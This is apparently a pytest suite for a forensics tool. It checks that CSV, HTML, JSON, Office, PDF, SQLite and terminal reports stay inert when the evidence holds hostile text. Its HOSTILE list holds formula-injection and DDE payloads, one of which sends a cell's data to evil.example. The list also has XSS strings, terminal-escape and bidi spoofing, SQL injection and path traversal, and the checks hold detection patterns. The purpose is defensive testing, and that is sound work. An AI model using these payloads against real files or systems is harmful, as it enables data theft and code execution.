"""Whatever an attacker wrote into subjects, names, files and addresses reaches no reader alive, through any reporter there is."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sqlite3
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from email.header import Header
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import small_evidence

import forensics
from forensics.plugins import discover
from forensics.reporters.terminal import screen

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=http://evil.example/x onerror=alert(1)>',
    "</style></title></textarea><a href=javascript:alert(1)>x</a>",
    "<!-- --><iframe src=//evil.example></iframe>",
    "[/red] [bold]x[/bold] [link=http://evil.example]y[/link]",
    "[x](javascript:alert(1)) | ![i](http://evil.example/i.png)",
    "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "invoice\u202excod.exe\u2066\u200b\ufeff",
    "{{7*7}}{% raw %}{# #} ${7*7} #{7*7}",
    '#eval("1+1") #link("http://evil.example")[x] $x$ *b* @ref',
    "\x85\x9b31m\ue000\U000e0041",
    "W" * 40_000,
    "o\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309",
    "'; DROP TABLE exposed_messages; --",
    "../../../../etc/passwd",
    "_id,datetime\r\ninjected,row",
)


def locked_zip() -> str:
    """An archive whose only member bears the mark of encryption."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("=1+1.txt", "x" * 40)
    raw = bytearray(made.getvalue())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        raw[raw.index(sign) + at] |= 1
    return base64.b64encode(raw).decode()


LOCKED = locked_zip()


def mail(number: int, text: str) -> str:
    """One mail with the text in every place that its writer chooses."""
    name = Header(text, "utf-8", maxlinelen=10_000).encode().replace("\n", "").replace("\r", "")[:50_000]
    told = f"Order for {text[:200]}\nYour verification code is 48{number:02}13.\nThe password is: Vz7-kQm2!pLx9\n"
    body = base64.b64encode(told.encode("utf-8", "replace")).decode()
    return (
        f"From shop@acme.example Thu Sep 18 10:{number:02}:01 2025\n"
        f"From: {name} <shop@acme.example>\nTo: {name} <customer{number}@customer.example>\nBcc: {name} <phan@giftshop.club>\n"
        f"Subject: {name}\nDate: Thu, 18 Sep 2025 10:{number:02}:01 +0000\nMessage-ID: <h{number}@acme.example>\nMIME-Version: 1.0\n"
        f'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n{body}\n'
        f"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename={name}\n\nsecond part\n"
        f"--b\nContent-Type: application/zip\nContent-Disposition: attachment; filename={name}\nContent-Transfer-Encoding: base64\n\n{LOCKED}\n--b--\n\n"
    )


def rows() -> str:
    """A provider's page whose every free text is hostile, and an address, too."""
    listed = [
        {
            "MessageID": f"b200000{n:02}-5c1e-4a77-9d10-4b6f0c2e00{n:02}"[:36],
            "MessageStream": "outbound",
            "Tag": text[:900],
            "To": [{"Email": f"kunde{n}@customer.example", "Name": text}],
            "Cc": [{"Email": f'"{text[:30]}"@customer.example', "Name": text}],
            "Bcc": [{"Email": "phan@giftshop.club", "Name": text}],
            "Recipients": [f"kunde{n}@customer.example", f'"{text[:30]}"@customer.example', "phan@giftshop.club"],
            "ReceivedAt": f"2025-09-18T09:{n:02}:44.0664242-04:00",
            "From": f"{text[:60]} <billing@acme.example>",
            "Subject": text,
            "Attachments": [text],
            "Status": "Sent",
        }
        for n, text in enumerate(HOSTILE)
    ]
    return json.dumps({"TotalCount": len(listed), "Messages": listed})


@pytest.fixture(scope="module")
def reported(tmp_path_factory: pytest.TempPathFactory) -> forensics.Case:
    """A case of hostile evidence, written by every reporter that is installed."""
    home = tmp_path_factory.mktemp("hostile")
    folder = home / "evidence" / "=1+1 [red]\x1b[2J\u202e<b>"
    folder.mkdir(parents=True)
    (folder / "@box.mbox").write_text("".join(mail(n, text) for n, text in enumerate(HOSTILE)), encoding="utf-8")
    (folder / "page.json").write_text(rows(), encoding="utf-8")
    (folder / "=cut.json").write_text(rows()[:-200], encoding="utf-8")
    case = small_evidence.audited(home / "evidence", out=home / "case")
    forensics.report(case, [one.name for one in discover("reporters")])
    assert case.summary["counts"]["exposed_messages"] >= 2 * len(HOSTILE) - 2
    assert case.summary["defects"]["total"]
    for name in ("sign_ins", "locked_attachments", "precautions"):
        assert len(case.read(name)), f"nothing hostile reached {name}"
        assert (case.report / f"{name}.csv").is_file()
    return case


def steering(text: str) -> list[str]:
    """Characters that steer a terminal or the direction of text, and those that nobody sees."""
    return sorted({repr(one) for one in text if unicodedata.category(one) in {"Cc", "Cf", "Cs", "Co"} and one not in "\t\n\r"})


class Elements(HTMLParser):
    """The elements of a page with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def check_csv(place: Path) -> None:
    content = place.read_bytes().decode()
    cells = list(csv.reader(content.splitlines(keepends=True), strict=True))
    assert {len(row) for row in cells} == {len(cells[0])}
    assert [one for row in cells for one in row if one[:1] in tuple("=+-@\t\r") and not re.fullmatch(r"-?\d+(\.\d+)?", one)] == []


def check_html(place: Path) -> None:
    text = place.read_text(encoding="utf-8")
    found = Elements(text).found
    assert {"script", "iframe", "img", "object", "embed", "base", "form", "link"}.isdisjoint(tag for tag, _ in found)
    assert [name for _, attributes in found for name in attributes if name.startswith("on")] == []
    assert [a["href"] for _, a in found if "href" in a and not a["href"].startswith("#")] == []
    assert steering(text) == []
    assert max(map(len, re.findall(r">([^<]*)<", re.sub(r"<style>.*?</style>", "", text, flags=re.DOTALL)))) < 10_000


def json_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield key
            yield from json_strings(one)
    elif isinstance(value, list):
        for one in value:
            yield from json_strings(one)


def check_json(place: Path) -> None:
    text = place.read_text(encoding="utf-8")
    assert json.loads(text)
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", text), "a control character that JSON does not allow"


def check_lines(place: Path) -> None:
    for line in place.read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        assert isinstance(record, dict)
        assert "_id" not in record
        assert all(len(one.encode("utf-8", "replace")) < 32_766 for one in json_strings(record))


def check_office(place: Path) -> None:
    with zipfile.ZipFile(place) as packed:
        names = packed.namelist()
        assert [
            name for name in names if "externalLink" in name or "vbaProject" in name or "activeX" in name or "embeddings" in name
        ] == []
        for name in names:
            text = packed.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]|<hyperlink[ >]|<w:hyperlink[ >]", text), name
            if name.endswith(".rels"):
                assert 'TargetMode="External"' not in text
            for instruction in re.findall(r"<w:instrText[^>]*>([^<]*)<", text):
                assert instruction.split()[0] in {"PAGE", "NUMPAGES"}


def check_pdf(place: Path) -> None:
    from pypdf import PdfReader

    pages = PdfReader(place)
    told = repr([pages.trailer["/Root"], [page.get("/Annots") for page in pages.pages]])
    assert not re.search(r"/JavaScript|/JS\b|/Launch|/OpenAction|/EmbeddedFiles|/URI\b", told)
    assert b"/JavaScript" not in place.read_bytes()
    assert steering("".join(page.extract_text() for page in pages.pages)) == []


def check_database(place: Path) -> None:
    with sqlite3.connect(f"file:{place}?mode=ro&immutable=1", uri=True) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert connection.execute("SELECT count(*) FROM exposed_messages").fetchone()[0] >= 2 * len(HOSTILE) - 2
        assert connection.execute("SELECT count(*) FROM sqlite_master WHERE type = 'trigger'").fetchone() == (0,)
    connection.close()


def check_text(place: Path) -> None:
    assert steering(place.read_text(encoding="utf-8")) == []


CHECKS: dict[str, Callable[[Path], None]] = {
    ".csv": check_csv, ".html": check_html, ".json": check_json, ".jsonl": check_lines, ".xlsx": check_office, ".docx": check_office,
    ".pdf": check_pdf, ".sqlite": check_database, ".txt": check_text,
}  # fmt: skip


def test_every_output_is_inert(reported: forensics.Case) -> None:
    written = sorted(reported.report.rglob("*"))
    assert {place.suffix for place in written} >= {".csv", ".html", ".json", ".txt"}
    for place in written:
        CHECKS[place.suffix](place)  # an output of another kind needs a check of its own
        assert place.stat().st_mode & 0o777 == 0o600, place.name
    assert {place.parent for place in written} == {reported.report}, "a name from evidence became a path"


def test_every_installed_reporter_wrote_something(reported: forensics.Case, tmp_path: Path) -> None:
    for one in discover("reporters"):
        assert one.plugin is not None, one.error
        folder = tmp_path / one.name
        folder.mkdir()
        assert all(place.is_relative_to(folder) for place in one.plugin.write(reported, folder)), one.name
        assert any(folder.iterdir()), one.name


def test_every_output_is_the_same_again(reported: forensics.Case) -> None:
    before = {place.name: place.read_bytes() for place in reported.report.iterdir()}
    forensics.report(reported, [one.name for one in discover("reporters")])
    after = {place.name: place.read_bytes() for place in reported.report.iterdir()}
    assert [name for name in before if before[name] != after[name]] == []


def test_the_terminal_shows_nothing_that_steers_it(reported: forensics.Case) -> None:
    from rich.console import Console

    console = Console(
        width=100, record=True, file=(reported.path.parent / "screen.txt").open("w", encoding="utf-8"), color_system=None
    )
    console.print(screen(reported))
    console.file.close()
    assert steering(console.export_text()) == []
